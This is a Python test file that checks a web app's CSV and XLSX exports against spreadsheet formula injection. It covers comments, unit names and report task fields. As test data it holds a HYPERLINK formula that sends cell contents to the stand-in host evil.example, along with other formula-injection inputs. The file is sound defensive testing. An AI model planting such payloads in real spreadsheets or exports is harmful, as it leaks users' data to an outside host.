"""Formula injection: every CSV and XLSX cell that a spreadsheet would run is written as text;
figures stay numbers. Files are read back with csv and openpyxl (what Excel users' tools use)."""
import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from app.core.spreadsheet import safe_cell, safe_row
from app.units.models import Unit
from tests.api_support import bearer, make_token

URL = "/api/v1/data-values"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
NASTY = [LINK, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", NASTY)
def test_safe_cell_makes_formula_text(text):
    assert safe_cell(text) == "'" + text


def test_safe_cell_leaves_numbers_and_plain_text():
    assert safe_row([5, -3, 2.5, None, "Xuân Long", "3 cuộc", ""]) == [5, -3, 2.5, None, "Xuân Long", "3 cuộc", ""]


@pytest.fixture
def api(client, db):
    """Figures of 04720 with nasty comments, and the unit itself renamed to a formula."""
    unit = db.exec(select(Unit).where(Unit.code == "04720")).one()
    unit.name = "=1+2"
    db.add(unit)
    db.commit()
    c = bearer(client, make_token(db, "141"))
    values = [{"orgUnit": "04720", "dataElement": "CT17", "period": f"2023-0{i + 1}", "value": -0 + i + 1,
               "comment": text} for i, text in enumerate(NASTY[:4])]
    r = c.post(URL, json={"dataValues": values})
    assert r.status_code == 200, r.text
    return c


def _no_formula(body: bytes) -> list:
    """Every cell of every sheet; asserts none is a formula."""
    wb = load_workbook(io.BytesIO(body))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def test_data_values_xlsx_comment_and_unit_name_inert(api):
    r = api.get(URL + ".xlsx?unit=04720")
    assert r.status_code == 200
    _no_formula(r.content)
    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))[1:]
    # Months 1..4 carry values 1..4 (numbers) and the four comments, each behind an apostrophe.
    assert [(row[1], row[4], row[5], row[8]) for row in rows] == [
        ("'=1+2", f"2023-0{i + 1}", i + 1, "'" + NASTY[i]) for i in range(4)]


def test_data_values_csv_cells_inert_numbers_stay(api):
    r = api.get(URL + ".csv?unit=04720")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))[1:]
    assert [(row[1], row[5], row[8]) for row in rows] == [("'=1+2", str(i + 1), "'" + NASTY[i]) for i in range(4)]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_rollups_xlsx_and_csv_unit_name_inert(api):
    r = api.get("/api/v1/rollups.xlsx?unit=141&period=2023-Q1&children=true&indicator=CT17")
    assert r.status_code == 200
    cells = _no_formula(r.content)
    assert "'=1+2" in [c.value for c in cells]
    r = api.get("/api/v1/rollups.csv?unit=141&period=2023-Q1&children=true&indicator=CT17")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    row = next(x for x in rows if x["unit"] == "04720")
    assert row["unitName"] == "'=1+2"
    assert row["value"] == "6"  # 1 + 2 + 3 supervisions in Q1: a number, unprefixed


def test_monthly_report_xlsx_inert(login, db):
    from app.program.models import Program, Task

    program = db.exec(select(Program)).first()
    district = db.exec(select(Unit).where(Unit.code == "141")).one()
    db.add(Task(program_id=program.id, plan_unit_id=district.id, lead_unit_id=district.id, quarter=2,
                due_month=5, number=91, title=LINK, text="", lead_department="@cmd", is_addition=True,
                addition_reason="-2+3"))
    unit = db.exec(select(Unit).where(Unit.code == "04720")).one()
    unit.name = "=1+2"
    db.add(unit)
    db.commit()
    c = login("huyen.quantri")
    r = c.get("/reports/141/2023-04.xlsx")
    assert r.status_code == 200
    values = [cell.value for cell in _no_formula(r.content)]
    assert "'" + LINK in values and "'@cmd" in values and "'-2+3" in values
    assert "'=1+2" in values  # a commune that has not reported, by name
